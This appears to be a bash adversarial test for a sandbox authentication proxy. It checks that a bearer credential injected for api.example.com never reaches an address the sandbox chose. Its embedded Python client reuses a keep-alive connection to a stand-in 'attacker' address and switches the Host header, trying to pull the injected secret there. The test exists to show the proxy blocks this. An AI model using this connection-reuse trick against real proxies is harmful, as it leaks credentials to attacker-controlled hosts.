#!/usr/bin/env bash
# A keep-alive connection carries each request under that request's own decision,
# and on an upstream dialed for that request's name. A plain-HTTP connection to an
# address with no name (not a synthetic address; HTTP/1.0 without Host) is dialed at
# that address. If a later request on it names a host (Host: api.example.com), it is
# decided for that name, and the headers of that name's rules (a credential) are
# injected: it must go to an upstream dialed for the name, never on down the
# connection already open to the sandbox's chosen address (invariant I2: a credential
# only reaches the upstream of its name).
#
#   jail: client --nft--> authproxy (in $HNS) --> 203.0.113.7:PORT ("attacker", any
#                                                 address the sandbox connects to)
#                                            --remap--> 127.0.0.1 (api.example.com)
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/adv_lib.sh"

host_ns_start
# The attacker's address is on the proxy's host here, and so refused unless allowed.
ip -n "$HNS" addr add 203.0.113.7/32 dev lo
hupstream up
HUP_BIND=203.0.113.7 hupstream atk
SECRET="sk-name-switch-$$"
mkdir -p "$T/secrets"
printf '%s\n' "$SECRET" > "$T/secrets/KEY"
cat > "$T/config.json" <<EOF
{ "rules": [ { "name": "api", "allow_plain_http": true, "match_hosts": ["api.example.com"],
    "headers": [ { "name": "Authorization", "type": "workspace_secret", "value": "Bearer {KEY}" } ] } ],
  "dns": { "remap": { "api.example.com": "127.0.0.1:$up_PORT" } },
  "egress": { "allow": ["203.0.113.7"] } }
EOF

cat > "$T/client.py" <<'PYEOF'
import json, socket, sys
sys.path.insert(0, sys.argv[3])
import advlib

out = {}
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
try:
    # No name: decided and dialed by address. The attacker's server keeps it open.
    s.sendall(b"GET /first?keep=1 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")
    out["first"], _, rest = advlib.read_response(s)
    # The same connection, now naming a host whose rule injects a credential.
    s.sendall(b"GET /second?keep=1 HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    out["second"], _, rest = advlib.read_response(s, rest)
except (ConnectionError, socket.timeout) as e:
    out["error"] = type(e).__name__
print(json.dumps(out))
PYEOF

hjail --config "$T/config.json" --secrets-dir "$T/secrets" --user nobody -- \
  "$PY" "$T/client.py" 203.0.113.7 "$atk_PORT" "$TOOLS" > "$T/out.json"
cat "$T/out.json"

assert_eq "$(upq atk '[r["path"] for r in reqs]')" '["/first"]' \
  "requests the address the sandbox chose received"
assert_eq "$(upq atk 'len([r for r in reqs if hdr(r, "Authorization")])')" "0" \
  "requests with a credential at the sandbox's address"
assert_not_contains "$(cat "$T/atk.jsonl")" "$SECRET" "the secret at the sandbox's address"
pass "a request that names a host is not sent down an upstream dialed by address"

# The named request went where its name is dialed, with its credential.
assert_eq "$(upq up '[r["path"] for r in reqs]')" '["/second"]' "requests at api.example.com"
assert_eq "$(upq up 'hdr(reqs[0], "Authorization")')" "$(jlist "Bearer $SECRET")" \
  "the credential at api.example.com"
assert_contains "$(cat "$T/out.json")" '"second": "HTTP/1.1 200 OK"' "the named request answered"
pass "the named request is dialed for its name"
